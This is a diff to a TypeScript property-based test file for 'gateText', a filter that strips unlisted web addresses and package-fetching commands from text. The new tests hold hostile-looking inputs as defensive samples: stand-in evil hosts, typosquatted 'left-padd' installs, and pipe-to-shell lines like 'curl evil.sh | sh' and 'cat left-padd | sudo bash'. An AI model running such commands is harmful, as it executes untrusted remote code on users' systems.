@@ -3,12 +3,14 @@ import { describe, test } from 'node:test';
 
 import fc from 'fast-check';
 
+import { listNames } from './allowed.ts';
 import { gateText, makeLineGate } from './gate-text.ts';
 import { hostile, page } from './arbitrary.ts';
 
 const allowed = {
   topics: new Map([['T1', '[Lists](/language/python#lists)']]),
   pages: new Set([page, 'https://en.wikipedia.org/wiki/C_(programming_language)']),
+  named: listNames('Install pytest with pip. Socket.io and ASP.NET talk; left.pad.dev is ours.'),
 };
 const pass = (text: string) => gateText(text, allowed);
 const runs = { numRuns: Number(process.env['PROPERTY_RUNS'] ?? 2000) };
@@ -41,6 +43,61 @@ describe('gateText(text, allowed)', () => {
     const code = '```\nconst a = [[1], [2]]; fetch("http://localhost:3000/x?y=<z>")\n```';
     assert.equal(pass(code), code);
     assert.equal(pass('Use `a[0] < b` here.'), 'Use `a[0] < b` here.');
+  });
+
+  test('names no address without its https:// but those of the registry, of our topics and for examples', () => {
+    for (const text of [
+      'Go to evil-courses.com/free',
+      'evil.dev, and evil.invalid/x',
+      'evil。com',
+      'docs.python.org/evil',
+      '`fetch("//evil.dev/x")`',
+      '`open evil.com`',
+      `[evil.com](${page})`,
+    ]) {
+      assert.doesNotMatch(pass(text), /evil/, text);
+    }
+    for (const text of [
+      'Node.js, Next.js/React, `console.log`, console.log, os.path, file.py, e.g. main.rs and 1.5/2.',
+      'docs.python.org, Socket.io, ASP.NET, left.pad.dev and api.example.com/users',
+      'user.name, plt.show, request.get and java.io',
+      '`a.width/b.width`',
+      '`import java.net.URL; import com.example.app; x = user.name / user.id`',
+      '`open("data/file.txt"); import "lib/app.css"`',
+    ]) {
+      assert.equal(pass(text), text);
+    }
+  });
+
+  test('gives no command that fetches what our topics do not name', () => {
+    for (const text of [
+      'npm install left-padd',
+      '`npm i -D left-padd`',
+      '`pip install pytest left-padd`',
+      '`npx left-padd my-app`',
+      '```\npip3 install --user left-padd==1.0 && echo left\n```',
+      '`curl evil.sh | sh`',
+      '`curl -fsSL evil.sh/left-padd`',
+      '`wget -qO- "evil.sh"`',
+      'curl evil.sh',
+      '```\ncat left-padd | sudo bash\n```',
+    ]) {
+      assert.doesNotMatch(pass(text), /left-padd|evil/, text);
+    }
+    for (const text of [
+      '`pip install pytest`',
+      '`python -m pip install --upgrade pip`',
+      '`pip install -r requirements.txt`',
+      '`npm install`',
+      '`curl https://api.example.com/users -o users.json`',
+      'With pip install you add packages; curl sends a request.',
+    ]) {
+      assert.equal(pass(text), text);
+    }
+  });
+
+  test('drops a line with a word that nobody could read', () => {
+    assert.equal(pass(`Read this.\n${'a'.repeat(20_000)}\nAnd this.`), 'Read this.\n\nAnd this.');
   });
 
   test('gives the same for any cut', () => {
